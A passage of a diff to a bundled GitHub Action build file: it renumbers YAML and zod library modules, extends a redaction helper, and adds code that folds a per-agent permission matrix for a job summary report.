 /***/ }),
 
-/***/ 9874:
+/***/ 7602:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(8689);
+var stringifyNumber = __nccwpck_require__(3569);
 
 const intIdentify = (value) => typeof value === 'bigint' || Number.isInteger(value);
 const intResolve = (str, offset, radix, { intAsBigInt }) => (intAsBigInt ? BigInt(str) : parseInt(str.substring(offset), radix));
@@ -9772,18 +9786,18 @@ exports.intOct = intOct;
 
 /***/ }),
 
-/***/ 896:
+/***/ 7904:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7451);
-var _null = __nccwpck_require__(3632);
-var seq = __nccwpck_require__(1706);
-var string = __nccwpck_require__(6464);
-var bool = __nccwpck_require__(3959);
-var float = __nccwpck_require__(8405);
-var int = __nccwpck_require__(9874);
+var map = __nccwpck_require__(4043);
+var _null = __nccwpck_require__(5632);
+var seq = __nccwpck_require__(7562);
+var string = __nccwpck_require__(4704);
+var bool = __nccwpck_require__(4359);
+var float = __nccwpck_require__(6229);
+var int = __nccwpck_require__(7602);
 
 const schema = [
     map.map,
@@ -9804,14 +9818,14 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 3559:
+/***/ 8647:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
-var map = __nccwpck_require__(7451);
-var seq = __nccwpck_require__(1706);
+var Scalar = __nccwpck_require__(389);
+var map = __nccwpck_require__(4043);
+var seq = __nccwpck_require__(7562);
 
 function intIdentify(value) {
     return typeof value === 'bigint' || Number.isInteger(value);
@@ -9875,27 +9889,27 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 18:
+/***/ 6178:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7451);
-var _null = __nccwpck_require__(3632);
-var seq = __nccwpck_require__(1706);
-var string = __nccwpck_require__(6464);
-var bool = __nccwpck_require__(3959);
-var float = __nccwpck_require__(8405);
-var int = __nccwpck_require__(9874);
-var schema = __nccwpck_require__(896);
-var schema$1 = __nccwpck_require__(3559);
-var binary = __nccwpck_require__(6083);
-var merge = __nccwpck_require__(452);
-var omap = __nccwpck_require__(303);
-var pairs = __nccwpck_require__(8385);
-var schema$2 = __nccwpck_require__(5913);
-var set = __nccwpck_require__(1528);
-var timestamp = __nccwpck_require__(6752);
+var map = __nccwpck_require__(4043);
+var _null = __nccwpck_require__(5632);
+var seq = __nccwpck_require__(7562);
+var string = __nccwpck_require__(4704);
+var bool = __nccwpck_require__(4359);
+var float = __nccwpck_require__(6229);
+var int = __nccwpck_require__(7602);
+var schema = __nccwpck_require__(7904);
+var schema$1 = __nccwpck_require__(8647);
+var binary = __nccwpck_require__(4355);
+var merge = __nccwpck_require__(9380);
+var omap = __nccwpck_require__(6431);
+var pairs = __nccwpck_require__(9281);
+var schema$2 = __nccwpck_require__(3081);
+var set = __nccwpck_require__(2504);
+var timestamp = __nccwpck_require__(4960);
 
 const schemas = new Map([
     ['core', schema.schema],
@@ -9981,14 +9995,14 @@ exports.getTags = getTags;
 
 /***/ }),
 
-/***/ 6083:
+/***/ 4355:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_buffer = __nccwpck_require__(181);
-var Scalar = __nccwpck_require__(3301);
-var stringifyString = __nccwpck_require__(3069);
+var Scalar = __nccwpck_require__(389);
+var stringifyString = __nccwpck_require__(1773);
 
 const binary = {
     identify: value => value instanceof Uint8Array, // Buffer inherits from Uint8Array
@@ -10058,12 +10072,12 @@ exports.binary = binary;
 
 /***/ }),
 
-/***/ 8398:
+/***/ 6158:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
+var Scalar = __nccwpck_require__(389);
 
 function boolStringify({ value, source }, ctx) {
     const boolObj = value ? trueTag : falseTag;
@@ -10094,13 +10108,13 @@ exports.trueTag = trueTag;
 
 /***/ }),
 
-/***/ 5782:
+/***/ 838:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
-var stringifyNumber = __nccwpck_require__(8689);
+var Scalar = __nccwpck_require__(389);
+var stringifyNumber = __nccwpck_require__(3569);
 
 const floatNaN = {
     identify: value => typeof value === 'number',
@@ -10151,12 +10165,12 @@ exports.floatNaN = floatNaN;
 
 /***/ }),
 
-/***/ 873:
+/***/ 5609:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(8689);
+var stringifyNumber = __nccwpck_require__(3569);
 
 const intIdentify = (value) => typeof value === 'bigint' || Number.isInteger(value);
 function intResolve(str, offset, radix, { intAsBigInt }) {
@@ -10234,13 +10248,13 @@ exports.intOct = intOct;
 
 /***/ }),
 
-/***/ 452:
+/***/ 9380:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
 
 // If the value associated with a merge key is a single mapping node, each of
 // its key/value pairs is inserted into the current mapping, unless the key
@@ -10312,16 +10326,16 @@ exports.merge = merge;
 
 /***/ }),
 
-/***/ 303:
+/***/ 6431:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var toJS = __nccwpck_require__(4043);
-var YAMLMap = __nccwpck_require__(4454);
-var YAMLSeq = __nccwpck_require__(2223);
-var pairs = __nccwpck_require__(8385);
+var identity = __nccwpck_require__(4919);
+var toJS = __nccwpck_require__(3899);
+var YAMLMap = __nccwpck_require__(5462);
+var YAMLSeq = __nccwpck_require__(6831);
+var pairs = __nccwpck_require__(9281);
 
 class YAMLOMap extends YAMLSeq.YAMLSeq {
     constructor() {
@@ -10396,15 +10410,15 @@ exports.omap = omap;
 
 /***/ }),
 
-/***/ 8385:
+/***/ 9281:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var Scalar = __nccwpck_require__(3301);
-var YAMLSeq = __nccwpck_require__(2223);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var Scalar = __nccwpck_require__(389);
+var YAMLSeq = __nccwpck_require__(6831);
 
 function resolvePairs(seq, onError) {
     if (identity.isSeq(seq)) {
@@ -10485,24 +10499,24 @@ exports.resolvePairs = resolvePairs;
 
 /***/ }),
 
-/***/ 5913:
+/***/ 3081:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7451);
-var _null = __nccwpck_require__(3632);
-var seq = __nccwpck_require__(1706);
-var string = __nccwpck_require__(6464);
-var binary = __nccwpck_require__(6083);
-var bool = __nccwpck_require__(8398);
-var float = __nccwpck_require__(5782);
-var int = __nccwpck_require__(873);
-var merge = __nccwpck_require__(452);
-var omap = __nccwpck_require__(303);
-var pairs = __nccwpck_require__(8385);
-var set = __nccwpck_require__(1528);
-var timestamp = __nccwpck_require__(6752);
+var map = __nccwpck_require__(4043);
+var _null = __nccwpck_require__(5632);
+var seq = __nccwpck_require__(7562);
+var string = __nccwpck_require__(4704);
+var binary = __nccwpck_require__(4355);
+var bool = __nccwpck_require__(6158);
+var float = __nccwpck_require__(838);
+var int = __nccwpck_require__(5609);
+var merge = __nccwpck_require__(9380);
+var omap = __nccwpck_require__(6431);
+var pairs = __nccwpck_require__(9281);
+var set = __nccwpck_require__(2504);
+var timestamp = __nccwpck_require__(4960);
 
 const schema = [
     map.map,
@@ -10533,14 +10547,14 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 1528:
+/***/ 2504:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var YAMLMap = __nccwpck_require__(4454);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var YAMLMap = __nccwpck_require__(5462);
 
 class YAMLSet extends YAMLMap.YAMLMap {
     constructor(schema) {
@@ -10636,12 +10650,12 @@ exports.set = set;
 
 /***/ }),
 
-/***/ 6752:
+/***/ 4960:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(8689);
+var stringifyNumber = __nccwpck_require__(3569);
 
 /** Internal types handle bigint as number, because TS can't figure it out. */
 function parseSexagesimal(str, asBigInt) {
@@ -10748,7 +10762,7 @@ exports.timestamp = timestamp;
 
 /***/ }),
 
-/***/ 4475:
+/***/ 9915:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -10906,15 +10920,15 @@ exports.foldFlowLines = foldFlowLines;
 
 /***/ }),
 
-/***/ 2148:
+/***/ 9300:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var anchors = __nccwpck_require__(1596);
-var identity = __nccwpck_require__(1127);
-var stringifyComment = __nccwpck_require__(9799);
-var stringifyString = __nccwpck_require__(3069);
+var anchors = __nccwpck_require__(9196);
+var identity = __nccwpck_require__(4919);
+var stringifyComment = __nccwpck_require__(6599);
+var stringifyString = __nccwpck_require__(1773);
 
 function createStringifyContext(doc, options) {
     const opt = Object.assign({
@@ -11045,14 +11059,14 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 1212:
+/***/ 4156:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var stringify = __nccwpck_require__(2148);
-var stringifyComment = __nccwpck_require__(9799);
+var identity = __nccwpck_require__(4919);
+var stringify = __nccwpck_require__(9300);
+var stringifyComment = __nccwpck_require__(6599);
 
 function stringifyCollection(collection, ctx, options) {
     const flow = ctx.inFlow ?? collection.flow;
@@ -11207,7 +11221,7 @@ exports.stringifyCollection = stringifyCollection;
 
 /***/ }),
 
-/***/ 9799:
+/***/ 6599:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -11238,14 +11252,14 @@ exports.stringifyComment = stringifyComment;
 
 /***/ }),
 
-/***/ 6829:
+/***/ 2285:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var stringify = __nccwpck_require__(2148);
-var stringifyComment = __nccwpck_require__(9799);
+var identity = __nccwpck_require__(4919);
+var stringify = __nccwpck_require__(9300);
+var stringifyComment = __nccwpck_require__(6599);
 
 function stringifyDocument(doc, options) {
     const lines = [];
@@ -11332,7 +11346,7 @@ exports.stringifyDocument = stringifyDocument;
 
 /***/ }),
 
-/***/ 8689:
+/***/ 3569:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -11366,15 +11380,15 @@ exports.stringifyNumber = stringifyNumber;
 
 /***/ }),
 
-/***/ 9748:
+/***/ 7764:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
-var stringify = __nccwpck_require__(2148);
-var stringifyComment = __nccwpck_require__(9799);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
+var stringify = __nccwpck_require__(9300);
+var stringifyComment = __nccwpck_require__(6599);
 
 function stringifyPair({ key, value }, ctx, onComment, onChompKeep) {
     const { allNullValues, doc, indent, indentStep, options: { commentString, indentSeq, simpleKeys } } = ctx;
@@ -11525,13 +11539,13 @@ exports.stringifyPair = stringifyPair;
 
 /***/ }),
 
-/***/ 3069:
+/***/ 1773:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
-var foldFlowLines = __nccwpck_require__(4475);
+var Scalar = __nccwpck_require__(389);
+var foldFlowLines = __nccwpck_require__(9915);
 
 const getFoldOptions = (ctx, isBlock) => ({
     indentAtStart: isBlock ? ctx.indent.length : ctx.indentAtStart,
@@ -11870,12 +11884,12 @@ exports.stringifyString = stringifyString;
 
 /***/ }),
 
-/***/ 204:
+/***/ 2588:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
+var identity = __nccwpck_require__(4919);
 
 const BREAK = Symbol('break visit');
 const SKIP = Symbol('skip children');
@@ -12113,12 +12127,12 @@ exports.visitAsync = visitAsync;
 
 /***/ }),
 
-/***/ 9479:
+/***/ 1321:
 /***/ ((__webpack_module__, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main_run_action_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(9447);
-/* harmony import */ var _verdict_verdict_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(8579);
+/* harmony import */ var _main_run_action_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6449);
+/* harmony import */ var _verdict_verdict_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7377);
 
 
 // Composition root of the Action. The exit code starts at "inconclusive" and is only lowered by proof; the
@@ -12132,7 +12146,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 9447:
+/***/ 6449:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -12269,8 +12283,8 @@ function base64At(bytes, offset) {
     return text.slice(first, last);
 }
 
-;// CONCATENATED MODULE: external "node:fs"
-const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
 ;// CONCATENATED MODULE: ./build/errors.js
 /**
  * Every way in which the gate can fail to judge, and every reason a verdict can carry, as one closed list.
@@ -12374,7 +12388,7 @@ const PAUSE = new Int32Array(new SharedArrayBuffer(4));
 /** Bytes taken; 0 when a pipe is full and its end does not block. */
 function writeSome(fd, bytes, code) {
     try {
-        return (0,external_node_fs_namespaceObject.writeSync)(fd, bytes);
+        return (0,external_node_fs_.writeSync)(fd, bytes);
     }
     catch (cause) {
         if (errorCodeOf(cause) === 'EAGAIN')
@@ -12617,7 +12631,7 @@ const NOTHING_KNOWN = {
     notes: [],
 };
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/util.js
 
 // functions
 function assertEqual(val) {
@@ -12684,7 +12698,7 @@ function floatSafeRemainder(val, step) {
         return 0;
     return ratio - roundedRatio;
 }
-const EVALUATING = /* @__PURE__*/ (/* unused pure expression or super */ null && (Symbol("evaluating")));
+const EVALUATING = /* @__PURE__*/ Symbol("evaluating");
 function defineLazy(object, key, getter) {
     let value = undefined;
     Object.defineProperty(object, key, {
@@ -13492,7 +13506,7 @@ function constantCatch(value) {
     return fn;
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/core.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/core.js
 var _a;
 
 /** A special constant with type `never` */
@@ -13635,7 +13649,7 @@ function config(newConfig) {
     return globalConfig;
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/memoizer.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/memoizer.js
 
 class $ZodCyclicError extends Error {
     constructor() {
@@ -13948,7 +13962,7 @@ function isBackEdge(ctx, value) {
     return backEdges !== undefined && isRef(value) && backEdges.has(value);
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/regexes.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/regexes.js
 
 /**
  * @deprecated CUID v1 is deprecated by its authors due to information leakage
@@ -14106,7 +14120,7 @@ const sha512_hex = /^[0-9a-fA-F]{128}$/;
 const sha512_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(86, "==")));
 const sha512_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(86)));
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/checks.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/checks.js
 // import { $ZodType } from "./schemas.js";
 
 
@@ -14624,7 +14638,7 @@ const $ZodCheckOverwrite = /*@__PURE__*/ $constructor("$ZodCheckOverwrite", (ins
     };
 });
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/doc.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/doc.js
 class Doc {
     constructor(args = [], closed = {}) {
         this.content = [];
@@ -14664,14 +14678,14 @@ class Doc {
     }
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/versions.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/versions.js
 const version = {
     major: 4,
     minor: 6,
     patch: 7,
 };
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/schemas.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/schemas.js
 
 
 
@@ -15414,9 +15428,9 @@ const $ZodUndefined = /*@__PURE__*/ $constructor("$ZodUndefined", (inst, def) =>
         return payload;
     };
 });
-const $ZodNull = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodNull", (inst, def) => {
+const $ZodNull = /*@__PURE__*/ $constructor("$ZodNull", (inst, def) => {
     $ZodType.init(inst, def);
-    inst._zod.pattern = regexes.null;
+    inst._zod.pattern = _null;
     inst._zod.values = new Set([null]);
     inst._zod.parse = (payload, _ctx) => {
         const input = payload.value;
@@ -15430,7 +15444,7 @@ const $ZodNull = /*@__PURE__*/ (/* unused pure expression or super */ null && (c
         });
         return payload;
     };
-})));
+});
 const $ZodAny = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodAny", (inst, def) => {
     $ZodType.init(inst, def);
     inst._zod.parse = (payload) => payload;
@@ -17259,24 +17273,24 @@ const $ZodPromise = /*@__PURE__*/ (/* unused pure expression or super */ null &&
         return Promise.resolve(payload.value).then((inner) => def.innerType._zod.run({ value: inner, issues: [] }, ctx));
     };
 })));
-const $ZodLazy = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodLazy", (inst, def) => {
+const $ZodLazy = /*@__PURE__*/ $constructor("$ZodLazy", (inst, def) => {
     $ZodType.init(inst, def);
     // Cache the resolved inner type on the shared `def` so all clones of this lazy (e.g. via `.describe()`/`.meta()`) share the same inner instance, preserving identity for cycle detection on recursive schemas.
-    util.defineLazy(inst._zod, "innerType", () => {
+    defineLazy(inst._zod, "innerType", () => {
         const d = def;
         if (!d._cachedInner)
             d._cachedInner = def.getter();
         return d._cachedInner;
     });
-    util.defineLazyInternal(inst, "pattern", (zod) => zod.innerType?._zod?.pattern);
-    util.defineLazyInternal(inst, "propValues", (zod) => zod.innerType?._zod?.propValues);
-    util.defineLazyInternal(inst, "optin", (zod) => zod.innerType?._zod?.optin ?? undefined);
-    util.defineLazyInternal(inst, "optout", (zod) => zod.innerType?._zod?.optout ?? undefined);
+    defineLazyInternal(inst, "pattern", (zod) => zod.innerType?._zod?.pattern);
+    defineLazyInternal(inst, "propValues", (zod) => zod.innerType?._zod?.propValues);
+    defineLazyInternal(inst, "optin", (zod) => zod.innerType?._zod?.optin ?? undefined);
+    defineLazyInternal(inst, "optout", (zod) => zod.innerType?._zod?.optout ?? undefined);
     inst._zod.parse = (payload, ctx) => {
         const inner = inst._zod.innerType;
         return inner._zod.run(payload, ctx);
     };
-})));
+});
 const $ZodCustom = /*@__PURE__*/ $constructor("$ZodCustom", (inst, def) => {
     $ZodCheck.init(inst, def);
     $ZodType.init(inst, def);
@@ -17309,7 +17323,7 @@ function handleRefineResult(result, payload, input, inst) {
     }
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/registries.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/registries.js
 var registries_a;
 const $output = /*@__PURE__*/ (/* unused pure expression or super */ null && (Symbol("ZodOutput")));
 const $input = /*@__PURE__*/ (/* unused pure expression or super */ null && (Symbol("ZodInput")));
@@ -17362,7 +17376,7 @@ function registry() {
 (registries_a = globalThis).__zod_globalRegistry ?? (registries_a.__zod_globalRegistry = registry());
 const globalRegistry = globalThis.__zod_globalRegistry;
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/api.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/api.js
 
 
 
@@ -17811,7 +17825,7 @@ function api_undefined(Class, params) {
 function api_null(Class, params) {
     return new Class({
         type: "null",
-        ...util.normalizeParams(params),
+        ...normalizeParams(params),
     });
 }
 // @__NO_SIDE_EFFECTS__
@@ -18315,7 +18329,7 @@ function _promise(Class, innerType) {
 }
 // @__NO_SIDE_EFFECTS__
 function _custom(Class, fn, _params) {
-    const norm = util.normalizeParams(_params);
+    const norm = normalizeParams(_params);
     norm.abort ?? (norm.abort = true); // default to abort:false
     const schema = new Class({
         type: "custom",
@@ -18467,7 +18481,7 @@ function _stringFormat(Class, format, fnOrRegex, _params = {}) {
     return inst;
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/to-json-schema.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/to-json-schema.js
 
 
 function assignProps(target, ...sources) {
@@ -19120,7 +19134,7 @@ const createStandardJSONSchemaMethod = (schema, io, processors = {}) => (params)
     return to_json_schema_finalize(ctx, schema);
 };
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/json-schema-processors.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/json-schema-processors.js
 
 
 
@@ -19965,7 +19979,7 @@ function toJSONSchema(input, params) {
     return finalize(ctx, input);
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/locales/en.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/locales/en.js
 
 const error = () => {
     const Sizable = {
@@ -20092,7 +20106,7 @@ const error = () => {
     };
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/errors.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/errors.js
 
 
 /* Computing the message eagerly is expensive (pretty-printed JSON of all
@@ -20361,7 +20375,7 @@ function prettifyError(error) {
     return lines.join("\n");
 }
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/core/parse.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/core/parse.js
 
 
 
@@ -20538,7 +20552,7 @@ const _safeDecodeAsync = (_Err) => async (schema, value, _ctx) => {
 };
 const safeDecodeAsync = /* @__PURE__*/ _safeDecodeAsync($ZodRealError);
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/errors.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/classic/errors.js
 
 
 
@@ -20597,7 +20611,7 @@ const ZodRealError = /*@__PURE__*/ $constructor("ZodError", errors_initializer, 
 // /** @deprecated Use `z.core.$ZodErrorMapCtx` instead. */
 // export type ErrorMapCtx = core.$ZodErrorMapCtx;
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/parse.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/classic/parse.js
 
 
 const classic_parse_parse = /* @__PURE__ */ _parse(ZodRealError);
@@ -20615,7 +20629,7 @@ const parse_safeDecode = /* @__PURE__ */ _safeDecode(ZodRealError);
 const parse_safeEncodeAsync = /* @__PURE__ */ _safeEncodeAsync(ZodRealError);
 const parse_safeDecodeAsync = /* @__PURE__ */ _safeDecodeAsync(ZodRealError);
 
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/schemas.js
+;// CONCATENATED MODULE: ../main/node_modules/zod/v4/classic/schemas.js
 
 
 
@@ -21371,13 +21385,13 @@ function schemas_undefined(params) {
     return api_undefined(ZodUndefined, params);
 }
 
-const ZodNull = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodNull", (inst, def) => {
-    core.$ZodNull.init(inst, def);
+const ZodNull = /*@__PURE__*/ $constructor("ZodNull", (inst, def) => {
+    $ZodNull.init(inst, def);
     ZodType.init(inst, def);
-    inst._zod.processJSONSchema = (ctx, json, params) => processors.nullProcessor(inst, ctx, json, params);
-})));
+    inst._zod.processJSONSchema = (ctx, json, params) => nullProcessor(inst, ctx, json, params);
+});
 function schemas_null(params) {
-    return core._null(ZodNull, params);
+    return api_null(ZodNull, params);
 }
 
 const ZodAny = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodAny", (inst, def) => {
@@ -22035,12 +22049,12 @@ function templateLiteral(parts, params) {
         ...util.normalizeParams(params),
     });
 }
-const ZodLazy = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodLazy", (inst, def) => {
-    core.$ZodLazy.init(inst, def);
+const ZodLazy = /*@__PURE__*/ $constructor("ZodLazy", (inst, def) => {
+    $ZodLazy.init(inst, def);
     ZodType.init(inst, def);
-    inst._zod.processJSONSchema = (ctx, json, params) => processors.lazyProcessor(inst, ctx, json, params);
+    inst._zod.processJSONSchema = (ctx, json, params) => lazyProcessor(inst, ctx, json, params);
     inst.unwrap = () => inst._zod.def.getter();
-})));
+});
 function lazy(getter) {
     return new ZodLazy({
         type: "lazy",
@@ -22087,7 +22101,7 @@ function check(fn) {
     return ch;
 }
 function custom(fn, _params) {
-    return core._custom(ZodCustom, fn ?? (() => true), _params);
+    return _custom(ZodCustom, fn ?? (() => true), _params);
 }
 function refine(fn, _params = {}) {
     return _refine(ZodCustom, fn, _params);
@@ -22438,9 +22452,17 @@ function redactFinding(finding, redact) {
         ...(accepted === undefined ? {} : { accepted: { ...accepted, reason: redact(accepted.reason) } }),
     };
 }
-function redactRow({ agent, origin, cells }, redact) {
-    const entries = Object.entries(cells).map(([key, cell]) => [redact(key), cell]);
-    return { agent: redact(agent), origin: redact(origin), cells: Object.fromEntries(entries) };
+function redactRow(row, redact) {
+    const { agent, origin, cells, changed, before } = row;
+    const keysOf = (list) => Object.fromEntries(Object.entries(list).map(([key, cell]) => [redact(key), cell]));
+    return {
+        ...row,
+        agent: redact(agent),
+        origin: redact(origin),
+        cells: keysOf(cells),
+        ...(changed === undefined ? {} : { changed: changed.map(redact) }),
+        ...(before === undefined ? {} : { before: keysOf(before) }),
+    };
 }
 function redactEntry(entry, redact) {
     return { ...entry, path: redact(entry.path), why: redact(entry.why) };
@@ -22496,6 +22518,156 @@ function longestRun(text) {
     return (text.match(/`+/gu) ?? []).reduce((longest, run) => Math.max(longest, run.length), 0);
 }
 
+;// CONCATENATED MODULE: ./build/report/matrix/fold.js
+/** Fewer agents than this are all shown by name. */
+const MANY = 16;
+const FEW_KEYS = 6;
+/** Leaves out what says nothing: agents that nobody touched, columns without a difference, rows that repeat. */
+function foldMatrix(matrix) {
+    const touched = matrix.filter((row) => row.untouched !== true || isDifferent(row));
+    const shown = touched.toSorted((a, b) => Number(isDifferent(b)) - Number(isDifferent(a)));
+    const untouched = matrix.filter((row) => !shown.includes(row)).map((row) => row.agent);
+    const groups = shown.length < MANY ? shown.map((row) => ({ row, others: [] })) : groupAlike(shown);
+    const keys = [...new Set(shown.flatMap(({ cells }) => Object.keys(cells)))].toSorted(byWeight);
+    const rows = groups.map(({ row }) => row);
+    const same = rows.length < 2 || keys.length <= FEW_KEYS ? [] : keys.flatMap((key) => sameCell(rows, key));
+    const folded = new Set(same.map(({ key }) => key));
+    return {
+        groups,
+        keys: keys.filter((key) => !folded.has(key)),
+        same,
+        untouched,
+    };
+}
+function isDifferent({ status }) {
+    return status !== undefined && status !== 'same';
+}
+/** What a key's cell was before, when the change has made something else of it. */
+function wasBefore(row, key) {
+    if (row.changed === undefined || !row.changed.includes(key))
+        return null;
+    return cellAt(row.before ?? {}, key) ?? 'none';
+}
+function cellAt(cells, key) {
+    return Object.hasOwn(cells, key) ? cells[key] : undefined;
+}
+/** What an agent can do harm with comes first, then the tools of servers, then all the rest. */
+const HEAVY = ['bash', 'edit', 'external_directory', 'webfetch', 'websearch', 'task', 'read'];
+function byWeight(a, b) {
+    return weightOf(a) - weightOf(b);
+}
+function weightOf(key) {
+    const at = HEAVY.indexOf(key);
+    if (at >= 0)
+        return at;
+    return HEAVY.length + (key.endsWith('_*') ? 0 : 1);
+}
+const MANY_ROWS = 4;
+function sameCell(rows, key) {
+    if (rows.some((row) => wasBefore(row, key) !== null))
+        return [];
+    const cells = rows.map((row) => ({ agent: row.agent, cell: cellAt(row.cells, key) }));
+    const cell = commonOf(cells.map((one) => one.cell));
+    if (cell === undefined || cell === 'pattern')
+        return [];
+    const others = cells.filter((one) => one.cell !== cell);
+    const [first] = others;
+    if (first === undefined)
+        return [{ key, cell, except: null }];
+    if (others.length > 1 || rows.length < MANY_ROWS || first.cell !== 'deny')
+        return [];
+    return [{ key, cell, except: { agent: first.agent, cell: first.cell } }];
+}
+/** What all but one of them are, if anything is. */
+function commonOf([one, two, three]) {
+    return one === two ? one : three;
+}
+function groupAlike(rows) {
+    const groups = new Map();
+    for (const row of rows) {
+        // What the change is about is never folded away.
+        const look = isDifferent(row) ? `= ${row.agent}` : JSON.stringify(row.cells);
+        const group = groups.get(look);
+        if (group === undefined)
+            groups.set(look, { row, others: [] });
+        else
+            group.others.push(row.agent);
+    }
+    return [...groups.values()];
+}
+
+;// CONCATENATED MODULE: ./build/report/matrix/section.js
+
+
+
+
+/** More columns than this are folded away; the JSON report has them. */
+const COLUMNS = 24;
+/** What each agent of the repository may do, and what the change makes of it: a section of the job summary. */
+function matrixSection({ audit: { matrix } }) {
+    if (matrix.length === 0)
